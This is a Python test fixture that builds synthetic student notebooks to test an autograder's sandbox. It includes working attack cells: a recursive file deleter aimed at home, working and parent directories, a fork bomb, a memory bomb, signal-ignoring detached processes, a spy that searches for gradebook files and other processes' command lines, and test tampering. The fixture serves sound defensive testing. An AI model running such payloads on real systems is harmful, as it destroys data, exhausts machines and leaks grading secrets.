"""A class of synthetic students, built from the release and the source notebooks: one who gets
everything right, and one per kind of attack on the grader (grading issue: each class of
shortcut, a deleter, detached children, an allocation bomb, a fork bomb), a tamperer and a
broken upload. Nothing here is committed: the notebooks are written under a pytest tmp folder,
in nbgrader's submitted/ layout.
"""

from __future__ import annotations

import os

import nbformat

from answers import SHORTCUTS, reference

MARKER = "dtlab-attack-marker"   # in every process an attacker starts: none may survive


def solved(release_path: str, source_path: str):
    """The student version with every solution cell answered as in the source: what a student
    who gets everything right hands in (benchmarks/autograde.py uses it too)."""
    nb = nbformat.read(release_path, as_version=4)
    src = nbformat.read(source_path, as_version=4)
    answers = {c.metadata.nbgrader["grade_id"]: c for c in src.cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = "\n".join(ln for ln in answers[gid].source.splitlines()
                                    if ln.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    return nb


def _cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


# what runs when an attacker's cell is rebuilt for grading (the build is the first code of its
# to run anywhere), then a function that cannot earn a mark on its own
DELETE_EVERYTHING = '''
import os, shutil, sys
# where other submissions, the gradebook and the course could be: up the tree from here, the
# usual homes of a course, and the top of the file system (not the installed system)
installed = (sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/dev", "/etc")
tops = {"/", os.path.expanduser("~"), os.getcwd(), "/tmp", "/work", "/root", "/home", "/srv", "/var"}
here = os.getcwd()
while here != "/":
    tops.add(here)
    here = os.path.dirname(here)
for top in sorted(tops):
    for here, dirs, files in os.walk(top, topdown=True):
        if here.startswith(installed) and here != "/":
            dirs[:] = []
            continue
        for f in files:
            try:
                os.remove(os.path.join(here, f))
            except OSError:
                pass
        for d in list(dirs):
            shutil.rmtree(os.path.join(here, d), ignore_errors=True)


def fit_alpha_beta(sizes, times_us):
    return 0.0, 1.0
'''

DETACHED_CHILDREN = f'''
import os, signal, subprocess, sys
for _ in range(40):  # own sessions, SIGTERM ignored, re-parented away: they must still die
    subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, "
                      "signal.SIG_IGN); time.sleep(3600)", "{MARKER}"], start_new_session=True)


def nearest_nic(links, nic_names):
    return {{}}
'''

FORK_BOMB = '''
import os
try:
    while True:
        os.fork()
except OSError:
    pass


def slow_pairs(matrix, fraction=0.75):
    return []
'''

MEMORY_BOMB = '''
hoard = []
while True:
    hoard.append(b"x" * (256 << 20))  # written, so the memory is really taken


def slowest_pairs(links):
    return {"kind": "NV18", "pairs": []}
'''

# looks everywhere it can for the test's data: reports what it found as its answer
SPY = '''
import gc, json, os, sys


def _look():
    found = []
    public = (sys.prefix, sys.base_prefix, "/proc", "/sys", "/dev", "/usr", "/etc")  # installed files
    for top in ("/", "/tmp", "/home", "/root", "/work", os.getcwd()):
        for here, dirs, files in os.walk(top):
            if here.startswith(public):
                dirs[:] = []
                continue
            for f in files:
                if f.endswith((".ipynb", ".db", "context.json")) or "gradebook" in f:
                    found.append(os.path.join(here, f))
    for pid in os.listdir("/proc"):  # any process but its own sandbox's (bwrap, its first)
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                cmd = open(f"/proc/{pid}/cmdline").read()
            except OSError:
                continue
            if not cmd.startswith(("bwrap\\0", "/bin/sh\\0-c\\0read x\\0")):
                found.append(cmd)
    frame = sys._getframe()
    while frame is not None:
        if any(k in frame.f_locals for k in ("EXAMPLE", "want", "expected", "KEYS", "tables")):
            found.append(f"frame {frame.f_code.co_name}")
        frame = frame.f_back
    found += ["object " + str(sorted(o)[:3]) for o in gc.get_objects()
              if isinstance(o, dict) and "EXAMPLE" in o]
    return found


def check_world(table):
    return {"found": _look()}
'''

TEST_GLOBALS = '''
def name_fault(console_text):  # the test's own answer key, by name: it is not in this process
    for fault, text in CONSOLES.items():
        if text == console_text:
            return fault
    return NAMES
'''


def ivo(nb, sources):  # destroys, forks, hoards, leaves children behind
    _cell(nb, "fit_alpha_beta").source = DELETE_EVERYTHING
    _cell(nb, "slow_pairs").source = FORK_BOMB
    return nb


def ivo03(nb, sources):
    _cell(nb, "slowest_pairs").source = MEMORY_BOMB
    _cell(nb, "nearest_nic").source = DETACHED_CHILDREN
    return nb


def jun(nb, sources):  # spies, and borrows the test's variables
    _cell(nb, "check_world").source = SPY
    _cell(nb, "name_fault").source = TEST_GLOBALS
    return nb


def kai(nb, sources):  # weaker algorithms: the shortcuts of 01
    for key in ("check_all_gather", "ring_all_gather", "composed_all_reduce"):
        _cell(nb, key).source = SHORTCUTS[("01_collectives", key)][0][1]()
    return nb


def lou(nb, sources):  # wrong, and tampers with the tests to hide it
    _cell(nb, "recommend").source = "def recommend(df, size, min_margin_pct=2.0):\n    return 'default', 0.0\n"
    _cell(nb, "recommend_tests").source = 'print("all tests pass")'
    nb.cells.remove(_cell(nb, "bus_bandwidth_tests"))
    _cell(nb, "bus_bandwidth").source = "def bus_bandwidth(op, size_bytes, time_us, nranks):\n    return 0.0\n"
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus_tests",
        "schema_version": 3}}))
    return nb


COURSE = ("00_launch", "01_collectives", "02_bandwidth", "03_topology", "04_multinode",
          "05_parity", "06_nccl", "07_hangs", "08_capstone")
# student -> {assignment: how the notebook is made from the solved one}
CLASS = {
    "ivo": {"02_bandwidth": ivo, "03_topology": ivo03},
    "jun": {"04_multinode": jun},
    "kai": {"01_collectives": kai},
    "lou": {"06_nccl": lou},
}
# what each attacked exercise must score (every other exercise of theirs: as hana's, the honest
# student graded beside them in test_term.py)
HONEST = "hana"
ZEROS = {"ivo": {"fit_alpha_beta_tests", "slow_pairs_tests", "slowest_pairs_tests", "nearest_nic_tests"},
         "jun": {"check_world_tests", "name_fault_tests"},
         "kai": {"check_all_gather_tests", "ring_all_gather_tests", "composed_all_reduce_tests"},
         "lou": {"recommend_tests", "bus_bandwidth_tests"}}
CORRUPT = "zed"


def write_class(inbox: str, root: str, students: dict | None = None,
                corrupt: bool = True) -> dict[tuple[str, str], str]:
    """inbox/<student>/<assignment>/<assignment>.ipynb for every student of ``students`` (default
    CLASS) and the broken upload; returns {(student, assignment): path}."""
    out = {}
    for student, work in (students or CLASS).items():
        for aid, attack in work.items():
            release = os.path.join(root, "release", aid, aid + ".ipynb")
            source = os.path.join(root, "source", aid, aid + ".ipynb")
            nb = solved(release, source)
            if attack is not None:
                nb = attack(nb, source)
            path = os.path.join(inbox, student, aid, aid + ".ipynb")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            nbformat.write(nb, path)
            out[(student, aid)] = path
    if corrupt:
        path = os.path.join(inbox, CORRUPT, "02_bandwidth", "02_bandwidth.ipynb")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write('{"cells": [')
    return out


__all__ = ["solved", "reference", "write_class", "CLASS", "COURSE", "ZEROS", "CORRUPT", "MARKER",
           "HONEST"]
